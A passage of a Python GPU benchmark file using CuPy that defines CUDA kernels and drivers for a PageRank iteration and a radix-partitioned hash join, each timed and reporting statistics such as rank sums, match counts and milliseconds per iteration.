    for (int e = rowptr[v]; e < e1; ++e) s += __ldg(contrib + col[e]);
    const float nv = base + damping * s;
    next[v] = nv;
    acc += fabs((double)nv - (double)rank[v]);
  }
  for (int o = 16; o > 0; o >>= 1) acc += __shfl_down_sync(0xFFFFFFFFu, acc, o);
  if ((threadIdx.x & 31) == 0) atomicAdd(diff, acc);
}
"""


def pagerank(variant, clock):
    if variant != "pull":
        raise ValueError(f"unknown variant {variant!r}")
    import cupy as cp
    n = PR_NODES
    assert n & (n - 1) == 0
    mod = cp.RawModule(code=PAGERANK_SRC)
    degrees, sources, contrib_k, pull = (mod.get_function(k) for k in ("pr_degrees", "pr_sources", "pr_contrib", "pr_pull"))
    grid, block = sms() * 8, 256
    deg = cp.empty(n, dtype=cp.int32)
    degrees((grid,), (block,), (deg, np.uint32(n), np.uint64(0x9A6E)))
    rowptr = cp.zeros(n + 1, dtype=cp.int32)
    rowptr[1:] = cp.cumsum(deg, dtype=cp.int32)
    del deg
    edges = int(rowptr[n])
    assert 0 < edges < 1 << 31
    col = cp.empty(edges, dtype=cp.uint32)
    outdeg = cp.zeros(n, dtype=cp.uint32)
    sources((grid,), (block,), (col, np.uint64(edges), np.uint32(n), np.uint64(0x50C), outdeg))
    ranks = [cp.full(n, 1.0 / n, dtype=cp.float32), cp.empty(n, dtype=cp.float32)]
    contrib = cp.empty(n, dtype=cp.float32)
    dangling = cp.zeros(1, dtype=cp.float64)
    diff = cp.zeros(1, dtype=cp.float64)
    damping = np.float32(0.85)
    iters = [0]

    def launch():  # one iteration
        dangling.fill(0)
        contrib_k((grid,), (block,), (ranks[0], outdeg, contrib, np.uint32(n), dangling))
        pull((grid,), (block,), (rowptr, col, contrib, ranks[0], ranks[1], np.uint32(n), damping, dangling, diff))
        ranks.reverse()
        iters[0] += 1
    n_launch, per = calibrated_launches(launch, 128)
    last = [0.0]

    def step():
        diff.fill(0)
        for _ in range(n_launch):
            launch()
    cupy_loop(step, clock)
    last[0] = float(diff[0]) / n_launch
    total = float(ranks[0].sum(dtype=cp.float64))
    top = float(ranks[0].max())
    dangl = int((outdeg == 0).sum())
    note(f"pagerank/{variant}: {n} nodes, {edges} edges ({dangl} dangling nodes), {iters[0]} iterations, "
         f"rank sum {total:.6f}, max {top * n:.1f} / n, last L1 change {last[0]:.3e} an iteration, "
         f"{per * 1e3:.2f} ms an iteration, {n_launch} a step")


# ---- radixjoin ---------------------------------------------------------------------------------------------------

RJ_BITS = 11
RJ_SLOTS_LOG = 12
RJ_TILE = 4096

RADIXJOIN_SRC = SPLITMIX_CUDA + r"""
#define RJ_BITS %BITS%
#define RJ_PARTS (1 << RJ_BITS)
#define RJ_SLOTS_LOG %SLOTS%
#define RJ_SLOTS (1 << RJ_SLOTS_LOG)
#define RJ_CAP (RJ_SLOTS / 2)  // build keys a table fill (load <= 1/2)
#define RJ_TILE %TILE%
#define RJ_EMPTY 0xFFFFFFFFFFFFFFFFull
__device__ __forceinline__ unsigned int rj_part(unsigned long long k) {
  return (unsigned int)((k * 0x9E3779B97F4A7C15ull) >> (64 - RJ_BITS));
}
__device__ __forceinline__ unsigned int rj_slot(unsigned long long k) {
  return (unsigned int)((k * 0x9E3779B97F4A7C15ull) >> (64 - RJ_BITS - RJ_SLOTS_LOG)) & (RJ_SLOTS - 1);
}
// build side (nbuild == 0): keys[i] = splitmix(i + seed), distinct. Probe side: half the keys one of the nbuild
// build keys (chosen by a hash), half splitmix(i + other), never a build key
extern "C" __global__ void rj_make(unsigned long long* keys, unsigned long long n, unsigned long long seed,
                                   unsigned long long other, unsigned long long nbuild) {
  for (unsigned long long i = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (unsigned long long)gridDim.x * blockDim.x) {
    if (nbuild == 0) {
      keys[i] = splitmix(i + seed);
    } else {
      const unsigned long long h = splitmix(i ^ 0xA5A5A5A5DEADBEEFull);
      keys[i] = (h & 1) ? splitmix((h >> 1) % nbuild + seed) : splitmix(i + other);
    }
  }
}
// partition sizes: a shared-memory histogram a block, added into hist
extern "C" __global__ void rj_hist(const unsigned long long* __restrict__ keys, unsigned long long n,
                                   unsigned int* hist) {
  __shared__ unsigned int h[RJ_PARTS];
  for (int p = threadIdx.x; p < RJ_PARTS; p += blockDim.x) h[p] = 0;
  __syncthreads();
  for (unsigned long long i = (unsigned long long)blockIdx.x * blockDim.x + threadIdx.x; i < n;
       i += (unsigned long long)gridDim.x * blockDim.x)
    atomicAdd(&h[rj_part(keys[i])], 1u);
  __syncthreads();
  for (int p = threadIdx.x; p < RJ_PARTS; p += blockDim.x)
    if (h[p]) atomicAdd(&hist[p], h[p]);
}
// exclusive prefix sum (one thread: 2048 entries): start[p], start[RJ_PARTS] = total; cursor = start
extern "C" __global__ void rj_scan(const unsigned int* __restrict__ hist, unsigned int* start, unsigned int* cursor) {
  if (blockIdx.x != 0 || threadIdx.x != 0) return;
  unsigned int s = 0;
  for (int p = 0; p < RJ_PARTS; ++p) {
    start[p] = s;
    cursor[p] = s;
    s += hist[p];
  }
  start[RJ_PARTS] = s;
}
// scatter into partitions: a block counts its RJ_TILE-key tile by partition, reserves a range of each partition
// (one global atomic a partition present), then places each key at its rank in the tile
extern "C" __global__ void rj_scatter(const unsigned long long* __restrict__ keys, unsigned long long n,
                                      unsigned int* cursor, unsigned long long* out) {
  __shared__ unsigned int cnt[RJ_PARTS], base[RJ_PARTS];
  for (unsigned long long t0 = (unsigned long long)blockIdx.x * RJ_TILE; t0 < n;
       t0 += (unsigned long long)gridDim.x * RJ_TILE) {
    const unsigned long long t1 = t0 + RJ_TILE < n ? t0 + RJ_TILE : n;
    for (int p = threadIdx.x; p < RJ_PARTS; p += blockDim.x) cnt[p] = 0;
    __syncthreads();
    for (unsigned long long i = t0 + threadIdx.x; i < t1; i += blockDim.x) atomicAdd(&cnt[rj_part(keys[i])], 1u);
    __syncthreads();
    for (int p = threadIdx.x; p < RJ_PARTS; p += blockDim.x) {
      if (cnt[p]) base[p] = atomicAdd(&cursor[p], cnt[p]);
      cnt[p] = 0;
    }
    __syncthreads();
    for (unsigned long long i = t0 + threadIdx.x; i < t1; i += blockDim.x) {
      const unsigned long long k = keys[i];
      const unsigned int p = rj_part(k);
      out[base[p] + atomicAdd(&cnt[p], 1u)] = k;
    }
    __syncthreads();
  }
}
// a block a partition: the build keys into a shared-memory table (RJ_CAP at a time), every probe key looked up.
// stats: matches, sum of the low 32 bits of matched keys
extern "C" __global__ void rj_join(const unsigned long long* __restrict__ build, const unsigned int* __restrict__ bstart,
                                   const unsigned long long* __restrict__ probe, const unsigned int* __restrict__ pstart,
                                   unsigned long long* stats) {
  __shared__ unsigned long long table[RJ_SLOTS];
  unsigned long long hits = 0, sum = 0;
  for (unsigned int p = blockIdx.x; p < RJ_PARTS; p += gridDim.x) {
    const unsigned int b1 = bstart[p + 1], q0 = pstart[p], q1 = pstart[p + 1];
    for (unsigned int c = bstart[p]; c < b1; c += RJ_CAP) {
      const unsigned int c1 = c + RJ_CAP < b1 ? c + RJ_CAP : b1;
      for (int s = threadIdx.x; s < RJ_SLOTS; s += blockDim.x) table[s] = RJ_EMPTY;
      __syncthreads();
      for (unsigned int i = c + threadIdx.x; i < c1; i += blockDim.x) {
        const unsigned long long k = build[i];
        for (unsigned int s = rj_slot(k);; s = (s + 1) & (RJ_SLOTS - 1)) {
          const unsigned long long prev = atomicCAS(&table[s], RJ_EMPTY, k);
          if (prev == RJ_EMPTY || prev == k) break;
        }
      }
      __syncthreads();
      for (unsigned int j = q0 + threadIdx.x; j < q1; j += blockDim.x) {
        const unsigned long long k = probe[j];
        for (unsigned int s = rj_slot(k);; s = (s + 1) & (RJ_SLOTS - 1)) {
          const unsigned long long t = table[s];
          if (t == k) {
            ++hits;
            sum += k & 0xFFFFFFFFull;
            break;
          }
          if (t == RJ_EMPTY) break;
        }
      }
      __syncthreads();
    }
  }
  for (int o = 16; o > 0; o >>= 1) {
    hits += __shfl_down_sync(0xFFFFFFFFu, hits, o);
    sum += __shfl_down_sync(0xFFFFFFFFu, sum, o);
  }
  if ((threadIdx.x & 31) == 0) {
    atomicAdd(&stats[0], hits);
    atomicAdd(&stats[1], sum);
  }
}
""".replace("%BITS%", str(RJ_BITS)).replace("%SLOTS%", str(RJ_SLOTS_LOG)).replace("%TILE%", str(RJ_TILE))


def radixjoin(variant, clock):
    if variant != "partition":
        raise ValueError(f"unknown variant {variant!r}")
    import cupy as cp
    assert RJ_PROBE < 1 << 32 and 8 * (1 << RJ_SLOTS_LOG) <= 48 << 10
    mod = cp.RawModule(code=RADIXJOIN_SRC)
    make, hist_k, scan, scatter, join = (mod.get_function(k) for k in ("rj_make", "rj_hist", "rj_scan", "rj_scatter", "rj_join"))
    parts = 1 << RJ_BITS
    grid, block = sms() * 8, 256
    seed = 0x0DDBA11
    other = seed + (1 << 40)  # splitmix inputs no build key uses
    sides = []
    for n, nbuild in ((RJ_BUILD, 0), (RJ_PROBE, RJ_BUILD)):
        keys = cp.empty(n, dtype=cp.uint64)
        make((grid,), (block,), (keys, np.uint64(n), np.uint64(seed), np.uint64(other), np.uint64(nbuild)))
        sides.append((keys, n, cp.empty(parts, dtype=cp.uint32), cp.empty(parts + 1, dtype=cp.uint32),
                      cp.empty(parts, dtype=cp.uint32), cp.empty(n, dtype=cp.uint64)))
    stats = cp.zeros(2, dtype=cp.uint64)
    joins = [0]

    def launch():  # partition both sides, join partition by partition
        for keys, n, hist, start, cursor, out in sides:
            hist.fill(0)
            hist_k((sms() * 4,), (block,), (keys, np.uint64(n), hist))
            scan((1,), (1,), (hist, start, cursor))
            scatter((min(grid, (n + RJ_TILE - 1) // RJ_TILE),), (block,), (keys, np.uint64(n), cursor, out))
        (_, _, _, bstart, _, bpart), (_, _, _, pstart, _, ppart) = sides
        join((parts,), (block,), (bpart, bstart, ppart, pstart, stats))
        joins[0] += 1
    n_launch, per = calibrated_launches(launch, 32)
    cupy_loop(repeat_step(launch, n_launch), clock)
    hits = int(stats[0])
    sizes = sides[0][3][1:] - sides[0][3][:-1]
    note(f"radixjoin/{variant}: {joins[0]} joins of {RJ_BUILD} x {RJ_PROBE} keys in {parts} partitions (build side "
         f"{int(sizes.min())}..{int(sizes.max())} a partition), {hits // max(1, joins[0])} matches a join "
         f"({hits / max(1, joins[0]) / RJ_PROBE:.4f} of probes), key sum {int(stats[1])}, {per * 1e3:.1f} ms a join, "
         f"{n_launch} a step")
